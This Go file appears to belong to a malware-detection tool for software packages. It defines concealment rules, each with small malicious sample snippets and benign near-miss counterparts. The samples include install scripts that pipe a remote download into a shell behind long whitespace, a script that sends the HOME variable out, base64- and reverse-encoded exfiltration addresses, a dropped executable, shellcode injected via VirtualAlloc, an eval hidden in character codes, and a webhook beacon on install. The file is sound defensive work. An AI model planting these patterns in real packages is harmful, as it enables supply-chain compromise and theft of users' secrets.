package rule

import b "taisei/detect/behaviour"

// concealment: what honest code has no reason to hide is hidden.
func concealment() []Rule {
	return []Rule{
		{
			ID: "hidden_address", Severity: High,
			When: []Condition{
				{Triggers: []string{b.Install, b.Build, b.Import, b.Command}, Sources: []string{b.Host}, Sinks: []string{b.Network}, Slots: []string{"connection"}, Concealed: Yes, Target: Foreign, Script: No},
				{Triggers: []string{b.Call}, Sources: []string{b.Blob}, Via: encodings, Sinks: []string{b.Network}, Slots: []string{"url"}, Concealed: Yes, Target: Foreign, Script: No},
			},
			Graver: []Condition{{Triggers: []string{b.Install, b.Build}}, {Via: scrambled, In: ".py"}, {Triggers: []string{b.Import}, In: ".py"}, {Target: Shady}},
			Examples: []Example{
				Module("an address in base64, when called", "import base64, requests\ndef sign(secret):\n    requests.post(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=').decode(), data={'license': secret})\n"),
				Module("an address in base64", "import base64, urllib.request\nurllib.request.urlopen(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=').decode())\n"),
				Module("another host than the address shows", "import requests\nrequests.get('https://cdn.example/x', headers={'Host': 'c.example'})\n"),
				Module("an address in reverse", "import requests\nrequests.get('ni/elpmaxe.c//:sptth'[::-1])\n"),
			},
			Neighbours: []Example{
				Module("the host that the address shows", "import requests\nrequests.get('https://c.example/x', headers={'Host': 'c.example'})\n"),
				Module("an address as it is", "import urllib.request\nurllib.request.urlopen('https://c.example/in')\n"),
				Module("a key in base64", "import base64\nKEY = base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUvaW4=')\n"),
			},
		},
		{
			ID: "out_of_sight", Severity: Critical,
			When: []Condition{{Slots: []string{"aside"}}},
			Examples: []Example{
				Python("behind blanks", "from setuptools import setup"+repeat(" ", 300)+";import os;os.system('curl http://203.0.113.9/x | sh')\nsetup(name='example')\n"),
				Package("behind blanks", `"main":"i.js"`, map[string]string{"i.js": "exports.a=1;" + repeat(" ", 300) + "fetch('https://c.example/?'+process.env.HOME)"}),
			},
			Neighbours: []Example{
				Python("in sight", "from setuptools import setup;import os;os.system('make')\nsetup(name='example')\n"),
				Module("an aligned table", "TABLE = {'a': 1,"+repeat(" ", 300)+"'b': 2}\n"),
			},
		},
		{
			ID: "hidden_program_written", Severity: High,
			When: []Condition{
				{Triggers: unasked, Sources: []string{b.Blob}, Via: encodings, Sinks: []string{b.File}, Target: Program, Script: No},
				{Triggers: []string{b.Install, b.Import}, Sources: []string{b.Download}, Sinks: []string{b.File}, Target: Aside, Script: No},
				{Sources: []string{b.Download}, Name: Server, Sinks: []string{b.File}, Target: Windows, Script: No},
				{Triggers: []string{b.Install, b.Build, b.Import}, Sources: []string{b.Blob}, Name: Within, Sinks: []string{b.File}, Target: Aside, In: ".py", Script: No},
				{Sources: []string{b.Blob, b.Files}, Via: []string{b.Xor, b.Cipher}, Sinks: []string{b.File}, Target: Program, Script: No},
			},
			Graver: []Condition{{Via: []string{b.Xor, b.Cipher}}, {Triggers: []string{b.Install}}, {Triggers: []string{b.Install, b.Import}, Sources: []string{b.Blob}, Via: encodings, Target: Aside}, {Name: Server}},
			Examples: []Example{
				Python("a script decoded into a folder of temporary files", "import base64, os\nfrom setuptools import setup\nopen(os.path.join(os.environ['APPDATA'], 'u.vbs'), 'wb').write(base64.b64decode('V1NjcmlwdC5FY2hvIDEgJyBqdXN0IGFuIGV4YW1wbGU='))\nsetup(name='example')\n"),
				Python("a script for a browser, as it is", "import os\nfrom setuptools import setup\np = os.path.join(os.getenv('APPDATA'), 'Extension')\nos.makedirs(p)\nwith open(p+'\\\\background.js', 'w') as f:\n    f.write('setInterval(function(){ look() }, 1000)')\nsetup(name='example')\n"),
				Module("decrypted first", "def unpack(k):\n    data = open('data.bin', 'rb').read()\n    open('unpacked/run.py', 'wb').write(bytes([b ^ 23 for b in data]))\n"),
				Module("a program fetched from a drop", "import requests, os\nopen(os.getenv('LOCALAPPDATA')+'\\\\Temp\\\\u.exe','wb').write(requests.get('https://cdn.discordapp.com/u.exe').content)\n"),
			},
			Neighbours: []Example{
				Module("an image decoded into a folder", "import base64, os\nopen(os.path.join(os.environ['APPDATA'], 'u.png'), 'wb').write(base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'))\n"),
				Module("when called", "import requests\ndef fetch(to):\n    open(to+'/driver.exe','wb').write(requests.get('https://files.example/driver.exe').content)\n"),
			},
		},
		{
			ID: "native_code_planted", Severity: Critical,
			When: []Condition{{Sources: []string{b.Blob, b.Download}, Sinks: []string{b.Code}, Languages: []string{"native"}}},
			Examples: []Example{
				Module("machine code copied into memory", "import ctypes, base64\ncode = base64.b64decode('"+repeat("kJCQkMzMzMw", 4)+"')\np = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, code, len(code))\n"),
			},
			Neighbours: []Example{
				Module("a structure copied", "import ctypes\ndef copy(a, b, n):\n    ctypes.memmove(a, b, n)\n"),
			},
		},
		{
			ID: "hidden_name", Severity: High,
			When:   []Condition{{Sources: []string{b.Blob}, Via: hidden, Sinks: []string{b.Code}, Slots: []string{"name"}, Script: No}},
			Graver: []Condition{{Triggers: early}},
			Examples: []Example{
				Module("a built-in function, by character codes", "f = getattr(globals()[''.join([chr(c) for c in [95, 95, 98, 117, 105, 108, 116, 105, 110, 115, 95, 95]])], ''.join([chr(c) for c in [101, 118, 97, 108]]))\nf(data)\n"),
			},
			Neighbours: []Example{
				Module("a function of its own, by a name put together", "def on_start(): pass\nfor k in ('start',):\n    globals()['on_' + k]()\n"),
			},
		},
		{
			ID: "account_named", Severity: High,
			When:   []Condition{{Triggers: early, Sources: []string{b.Blob}, Sinks: []string{b.Network}, Slots: []string{"account"}, Script: No}},
			Graver: []Condition{{Triggers: []string{b.Install, b.Build}}},
			Examples: []Example{
				Python("a webhook, given to a class that is not there", "from setuptools import setup\nhook = Hook.from_url('https://discord.com/api/webhooks/100000000000000000/example-example-example')\nhook.send('installed')\nsetup(name='example')\n"),
			},
			Neighbours: []Example{
				Module("when called, for an example", "def example():\n    return Hook.from_url('https://discord.com/api/webhooks/100000000000000000/example-example-example')\n"),
			},
		},
	}
}
